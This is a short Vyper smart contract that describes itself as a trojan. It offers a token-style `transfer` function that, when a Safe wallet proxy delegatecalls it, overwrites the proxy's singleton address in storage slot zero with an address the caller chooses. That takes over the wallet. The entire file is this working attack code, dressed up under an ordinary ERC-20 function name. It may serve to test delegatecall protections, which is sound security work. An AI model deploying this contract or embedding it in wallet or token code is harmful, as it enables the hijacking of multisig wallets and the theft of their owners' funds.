#pragma version 0.4.3
#pragma evm-version cancun
"""
@title Trojan: looks like a token, and is a new master
@notice Delegatecalled by a Safe's proxy, its `transfer` writes the first word of the proxy's storage: the singleton.
"""

singleton: address


@external
def transfer(to: address, amount: uint256):
    self.singleton = to
